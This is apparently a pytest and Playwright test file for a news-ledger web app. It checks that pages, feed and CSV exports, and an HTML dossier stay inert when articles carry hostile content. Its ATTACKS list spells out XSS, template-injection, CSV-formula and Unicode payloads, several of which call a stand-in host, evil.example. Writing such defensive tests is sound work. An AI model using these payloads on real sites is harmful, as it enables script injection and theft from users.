"""Articles that attack their reader, in a real browser: nothing runs, nothing leaves.

The attacks come in through the front door: they are posted, read by the rules and
reconciled like any article, so that they reach every page that words can reach.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urldefrag, urljoin

import pytest
from playwright.sync_api import Browser, Page
from typer.testing import CliRunner

from browser.rig import NARROW, Site, opened, overflow, serving, shoot
from onrecord.cli.app import app
from onrecord.ingest import IngestOptions
from onrecord.ledger import SqliteLedger
from onrecord.pipeline.main import add_paths
from onrecord.records import Failure
from onrecord.settings import Settings
from web_builders import HOSTILE

# what is refused as binary data where it comes as an article, but not in a note
_CONTROLS = "\x1b[31m \x07 \x00 \x08 \x9b"
_RUN = "window.__pwned=1;alert(1)"
ATTACKS = (
    f"<script>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</title></textarea></style><img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}><use href='https://evil.example/x.svg#a'/></svg>",
    "<style>@import 'https://evil.example/x.css';*{display:none!important}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src=https://evil.example></iframe><base href=https://evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<a href='javascript:{_RUN}' autofocus onfocus={_RUN}>press</a>",
    f"<form action=https://evil.example><button formaction=javascript:{_RUN}>",
    f"<details open ontoggle={_RUN}><div hx-get=https://evil.example hx-trigger=load>",
    "{{7*7}} ${7*7} {% raw %} #{7*7} <%= 7*7 %>",
    "\u202edesrever\u202c \u2066apart\u2069 \u200fmark \u200b\u2028\u2029\ufeff\u0301\u0301",
    "W" * 3000,
    '"><x onmouseover=' + _RUN + ' style="position:fixed;inset:0">',
    "]]> --> <!-- <![CDATA[ &lt;script&gt; &#60;b&#62; \\u003cscript\\u003e",
    '=HYPERLINK("https://evil.example") +1 -1 @SUM(1)',
)
_STARTS = (
    *("/", "/conflicts?ruled=all", "/forecasts", "/outlets", "/entities", "/runs"),
    *("/exports", "/search?words=evil", "/subjects/Oreshnik"),
)
_MOST_PAGES = 60


def _articles() -> Iterator[dict[str, str]]:
    """Each attack as an article whose every string it is, and which says something."""
    for n, attack in enumerate(ATTACKS):
        says = "has arrived in" if n % 2 else "has not arrived in"
        yield {
            "id": f"h{n}{attack[:40]}",
            "url": "javascript:" + _RUN,
            "outlet": f"{attack[:200]} Wire",
            "title": f"{attack} Oreshnik arrives",
            "published": "2025-12-18",
            "lang": "en",
            "text": f"MINSK, December 18. {attack}\n\nThe Oreshnik missile system {says}"
            f' Belarus, Defense Minister Viktor Khrenin said on Thursday. "{attack} the'
            f' Oreshnik {says} Belarus," Viktor Khrenin said. {attack}',
        }


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A server over a ledger of attacks, with attacks for notes, rulings and grades."""
    folder = tmp_path_factory.mktemp("attacked")
    posted = folder / "posted.jsonl"
    lines = [json.dumps(article) for article in _articles()]
    posted.write_text("\n".join(lines), encoding="utf-8")
    path = folder / "ledger.db"
    failed: list[Failure] = []
    with SqliteLedger(path) as ledger:
        totals = add_paths(
            [str(posted)],
            ledger,
            settings=Settings(ledger=path, profile="rules"),
            options=IngestOptions(),
            watch=lambda done: (
                failed.append(done) if isinstance(done, Failure) else None
            ),
        )
    assert (totals.new, failed) == (len(ATTACKS), [])
    with serving(path) as site:
        yield site


def test_no_page_runs_or_fetches_what_an_article_brings(
    browser: Browser, attacked: Site
) -> None:
    with opened(browser, attacked) as (page, _):
        _work(page)
        seen = dict(_crawl(page))

    kinds = {path.split("/")[1].partition("?")[0] for path in seen}
    assert {"subjects", "statements", "articles", "conflicts", "outlets"} <= kinds
    for path, what in seen.items():
        assert what == {"pwned": False, "own": True, "shown": True, "heads": 1}, path


def _work(page: Page) -> None:
    """Add people's words that are attacks as well."""
    api = "/api/v1"
    conflict = page.request.get(f"{api}/conflicts?tier=all").json()["items"][0]["id"]
    outlets = page.request.get(f"{api}/outlets").json()["items"]
    said = ATTACKS[1] + ATTACKS[11] + HOSTILE + _CONTROLS
    for path, given in (
        (f"{api}/rulings/{conflict}", {"verdict": "confirmed", "reason": said}),
        (f"{api}/notes", {"target": "subject:Oreshnik", "text": said}),
        (f"{api}/notes", {"target": conflict, "text": said}),
        (
            f"{api}/grades",
            {
                "of": outlets[0]["outlet"],
                "letter": "E",
                "since": "2025-01-01",
                "reason": said,
            },
        ),
    ):
        assert page.request.post(path, data=given).status == 201


def _crawl(page: Page) -> Iterator[tuple[str, dict[str, object]]]:
    waiting = list(_STARTS)
    seen: set[str] = set()
    while waiting and len(seen) < _MOST_PAGES:
        path = waiting.pop(0)
        if path in seen:
            continue
        seen.add(path)
        answer = page.goto(path, wait_until="load")
        assert answer is not None
        assert answer.status == 200, path
        yield path, page.evaluate(_STATE)
        # alternate ends, so that pages of every kind are among the first
        found = page.eval_on_selector_all("a[href]", "all => all.map(a => a.href)")
        own = [urldefrag(urljoin(page.url, link)).url for link in found]
        base = page.url.split("/", 3)
        home = "/".join(base[:3])
        new = [u.removeprefix(home) for u in own if u.startswith(home + "/")]
        new = [p for p in dict.fromkeys(new) if not p.startswith(("/export/", "/api"))]
        waiting = new[:4] + waiting + new[4:]


_STATE = """() => ({
  pwned: "__pwned" in window,
  own: !document.querySelector("iframe, base, object, embed, img, main style")
    && ![...document.querySelectorAll("[href], [src], [action], [formaction]")].some(
      (e) => ["href", "src", "action", "formaction"].some((name) =>
        /^\\s*(javascript|data|vbscript|https?:.*evil)/i.test(e.getAttribute(name) || ""))),
  shown: getComputedStyle(document.querySelector("main")).display !== "none",
  heads: document.querySelectorAll("h1").length,
})"""


def test_the_longest_word_breaks_no_page_of_a_phone(
    browser: Browser, attacked: Site
) -> None:
    long = next(n for n, attack in enumerate(ATTACKS) if attack.startswith("WWW"))
    with attacked.look() as look:
        names = [a.id for a in look.ledger.articles()]
    article = next(name for name in names if name.startswith(f"h{long}W"))
    with opened(browser, attacked, viewport={"width": NARROW, "height": 844}) as (
        page,
        _,
    ):
        for path in (f"/articles/{article}", "/outlets", "/subjects/Oreshnik", "/"):
            page.goto(path, wait_until="load")
            shoot(page, f"hostile-{path.split('/')[1]}-{NARROW}")
            assert overflow(page) <= 0, path


@pytest.mark.parametrize("name", ["atom", "csv"])
def test_an_export_that_browsers_and_desks_open_is_inert(
    browser: Browser, attacked: Site, name: str
) -> None:
    with opened(browser, attacked) as (page, _):
        page.goto("/exports")
        body = page.request.get(f"/export/{name}").body()
        if name == "atom":
            assert _live_elements(page, body.decode()) == []
    if name == "csv":
        assert [cell for cell in _cells(body) if _is_formula(cell)] == []
        assert [cell for cell in _cells(body) if _has_control(cell)] == []


def _live_elements(page: Page, feed: str) -> list[str]:
    """Return what a feed reader would run, in the feed and in its HTML content."""
    found: list[str] = page.evaluate(
        """feed => {
          const xml = new DOMParser().parseFromString(feed, "application/xml");
          const bad = [...xml.querySelectorAll(
            "parsererror, script, svg, iframe, style, img, form, [onload], [onfocus]")];
          const html = [...xml.querySelectorAll("[type=html]")].map(
            (e) => new DOMParser().parseFromString(e.textContent, "text/html"));
          for (const d of html) bad.push(...d.querySelectorAll(
            "script, svg, iframe, style, img, link, [onload], [onerror], [onfocus]"));
          const links = [...xml.querySelectorAll("[href]")].filter(
            (l) => /^\\s*javascript:/i.test(l.getAttribute("href") || ""));
          return [...bad, ...links].map((e) => e.outerHTML.slice(0, 200));
        }""",
        feed,
    )
    return found


def _cells(body: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(body)) as packed:
        for name in packed.namelist():
            if name.endswith(".csv"):
                text = packed.read(name).decode("utf-8-sig")
                for row in csv.reader(io.StringIO(text, newline="")):
                    yield from row


def _is_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "@", "\t", "\r")) or (
        cell.startswith("-") and not cell[1:2].isdigit()
    )


def _has_control(cell: str) -> bool:
    return any(unicodedata.category(c) == "Cc" and c not in "\n\t" for c in cell)


def test_the_html_dossier_of_attacks_opens_from_disk_and_runs_nothing(
    browser: Browser, attacked: Site, tmp_path: Path
) -> None:
    path = tmp_path / "dossier.html"
    ledger = str(attacked.desk.settings.ledger)
    words = ["dossier", "Oreshnik", "--ledger", ledger, "--html", str(path)]
    done = CliRunner().invoke(app, words)
    assert done.exit_code == 0, done.output
    asked: list[str] = []
    context = browser.new_context()
    try:
        page = context.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
        page.goto(path.as_uri(), wait_until="load")

        assert asked == [path.as_uri()]
        assert page.evaluate("'__pwned' in window") is False
        assert page.locator("h1").count() == 1
        assert page.locator("iframe, img, base, object, embed").count() == 0
    finally:
        context.close()
